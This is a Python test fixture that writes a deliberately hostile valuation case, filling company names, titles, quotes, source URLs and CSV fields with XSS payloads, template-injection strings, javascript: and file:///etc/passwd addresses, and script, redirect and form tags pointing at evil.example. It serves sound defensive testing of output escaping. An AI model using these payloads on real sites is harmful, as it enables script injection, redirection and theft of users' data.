"""A case written by somebody who wants the reader's browser to do something: every place for words holds an attempt."""

import csv
import json
from pathlib import Path
from typing import Final

from steelyard.sources.folder import begin_case

ATTEMPTS: Final = {
    "company": "<script>alert(1)</script> Mills",
    "title": '"><img src=x onerror=alert(2)>',
    "about": "{{ 7*7 }} {% include 'report.css' %} {# gone #}",
    "reason": "</title></style><svg onload=alert(3)>",
    "who": "javascript:alert(4)",
    "ring": "Millers' \"ring\" </text><a href='javascript:alert(5)'>",
    "answer": "<iframe srcdoc='<p>'>&lt;b&gt; &amp;#60;",
    "publisher": "<b onmouseover=alert(6)>Times</b>",
    "headline": "]]><!-- {{ config }}",
    "quote": '"><script src="https://evil.example/x.js"></script>',
    "note": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "segment": "</dd><form action=https://evil.example>",
}
"""Where it is put, and what."""

ADDRESSES: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/",
    "file:///etc/passwd",
    'https://evil.example/" onclick="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "https://evil.example/ javascript:alert(1)",
)
"""What is given as the web address of a source."""


def begin_hostile_case(folder: Path) -> None:
    """Write the case into a folder that is not there yet."""
    begin_case(folder)
    for path in (folder / "case.toml", folder / "facts.csv", *(folder / "documents").iterdir()):
        path.write_text(path.read_text().replace("Example Mills", ATTEMPTS["company"]))
    toml = folder / "case.toml"
    words = toml.read_text().replace('"you"', in_toml("who"))
    for was, becomes in (
        (f'"What is {ATTEMPTS["company"]} worth?"', "title"),
        ('"An invented maker of flour, to be replaced by a company of yours."', "about"),
        ('"The same trade, the same margins, the same customers."', "reason"),
        ('"It grew by 4% in 2023."', "reason"),
        ('"Millers"', "ring"),
        ('"Bread is eaten every day, and no more of it each year."', "answer"),
    ):
        assert was in words, was
        words = words.replace(was, in_toml(becomes))
    toml.write_text(words)
    for number, address in enumerate(ADDRESSES):
        lines = ["---", f"title: {ATTEMPTS['headline']}", f"publisher: {ATTEMPTS['publisher']}", "day: 2024-05-01"]
        lines += ["tier: press", f"about: {ATTEMPTS['company']}", f"url: {address}", "---", ""]
        lines += [f"Revenue was 51.{number} million euros in 2023. {ATTEMPTS['quote']}", ""]
        (folder / "documents" / f"page-{number}.md").write_text("\n".join(lines))
    add_facts(folder / "facts.csv")


def add_facts(path: Path) -> None:
    """One typed fact for each address."""
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    for number, address in enumerate(ADDRESSES):
        row = {"company": ATTEMPTS["company"], "measure": "revenue", "period": "FY2023", "tier": "press"}
        row |= {"value": f"EUR 7.{number} million", "day": "2024-05-02", "title": ATTEMPTS["headline"], "url": address}
        row |= {name: ATTEMPTS[name] for name in ("publisher", "quote", "note", "segment")}
        rows.append(row)
    with path.open("w", encoding="utf-8", newline="") as file:
        table = csv.DictWriter(file, (*rows[0], "url", "segment"), restval="")
        table.writeheader()
        table.writerows(rows)


def in_toml(name: str) -> str:
    """An attempt in quotes: a string of JSON is one of TOML."""
    return json.dumps(ATTEMPTS[name])
